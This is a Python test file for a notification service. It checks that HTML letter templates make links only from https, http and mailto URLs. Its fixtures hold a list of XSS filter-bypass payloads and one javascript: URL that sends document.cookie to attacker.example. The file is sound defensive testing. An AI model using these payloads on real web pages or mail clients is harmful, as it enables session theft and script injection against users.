"""Only https:, http: and mailto: URLs become links in HTML letters; anything else is shown as text.

A message's context is written by whoever sends it (another service, an operator's preview); a
``javascript:`` URL there must not become a clickable ``href`` in a letter. One function decides
(``services.notify.letters.hyperlinks.linkable_url``); every link of every template goes through it.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from libs.common.auth import Role
from services.notify.letters.rendering import TEMPLATE_DIR, Recipient, render_message
from tests.fixtures.clients import bearer
from tests.notify.symposium_data import FOURTH_FY2021
from tests.security.wiring import Wired

HOSTILE = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "https:javascript:alert(1)",  # no host: not a web address
    "//attacker.example/",
    "file:///etc/passwd",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
]
LINKABLE = [
    "https://review.jisso.example/applications/1?tab=assessment&lang=ja",
    "HTTPS://meet.example.jp/abc",
    "http://intranet.example.lg.jp/",
    "mailto:office@jisso.example",
]
LINKS = {
    name: f"https://notify.jisso.example/{name}" for name in ("attend", "decline", "unsubscribe")
}
TO = Recipient(name="秩父 花子", email="hanako@example.jp")


class Anchors(HTMLParser):
    """Every ``href`` of a letter, as a mail client would read it (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.hrefs += [value or "" for name, value in attrs if name == "href"]


def hrefs(letter_html: str) -> list[str]:
    parser = Anchors()
    parser.feed(letter_html)
    return parser.hrefs


def letters(url: str) -> dict[str, str]:
    """The HTML of each letter that prints a URL from its context, with ``url`` there."""
    contexts: dict[str, dict[str, Any]] = {
        "assessment_reminder": {
            "project_name": "事業",
            "due_date": "2022-03-11",
            "review_url": url,
        },
        "assessment_escalation": {
            "project_name": "事業",
            "due_date": "2022-03-11",
            "reviewer_name": "審査 太郎",
            "review_url": url,
        },
        "continuation_deadline_reminder": {
            "project_name": "事業",
            "local_government": "秩父市",
            "deadline": "2021-12-17",
            "submission_url": url,
        },
        "symposium_invitation": {"symposium": {**FOURTH_FY2021, "join_url": url}},
    }
    return {
        kind: render_message(kind, context=context, recipient=TO, links=LINKS).html
        for kind, context in contexts.items()
    }


def scheme_of(href: str) -> str:
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", href)
    return found.group(1).lower() if found else ""


@pytest.mark.parametrize("url", HOSTILE)
def test_a_url_that_is_not_a_web_or_mail_address_is_shown_as_text(url: str) -> None:
    for kind, letter in letters(url).items():
        assert all(scheme_of(h) in ("https", "http", "mailto") for h in hrefs(letter)), kind
        assert url not in hrefs(letter), kind
        # Shown, escaped: what the sender wrote is there for the reader to see.
        assert html.escape(url.strip(), quote=False) in letter or url.strip() in html.unescape(
            letter
        ), kind


@pytest.mark.parametrize("url", LINKABLE)
def test_web_and_mail_addresses_become_links(url: str) -> None:
    for kind, letter in letters(url).items():
        assert url in hrefs(letter), kind


async def test_a_preview_shows_a_javascript_url_as_text(
    wired: Wired, token: Callable[..., str]
) -> None:
    body = {
        "kind": "assessment_reminder",
        "context": {
            "project_name": "事業",
            "due_date": "2022-03-11",
            "review_url": "javascript:fetch('https://attacker.example/?'+document.cookie)",
        },
        "recipient": {"name": TO.name, "email": TO.email},
    }
    response = await wired.clients["notify"].post(
        "/v1/previews", json=body, headers=bearer(token(Role.operator))
    )
    assert response.status_code == 200, response.text
    letter = response.json()["html"]
    assert not any(scheme_of(h) == "javascript" for h in hrefs(letter))
    assert "javascript:fetch(" in html.unescape(letter)


def test_every_template_link_goes_through_the_one_rule() -> None:
    raw_links = [
        f"{path.name}: {line.strip()}"
        for path in sorted(Path(TEMPLATE_DIR).glob("*.html.j2"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if re.search(r"href\s*=", line, re.IGNORECASE)
    ]
    assert raw_links == []
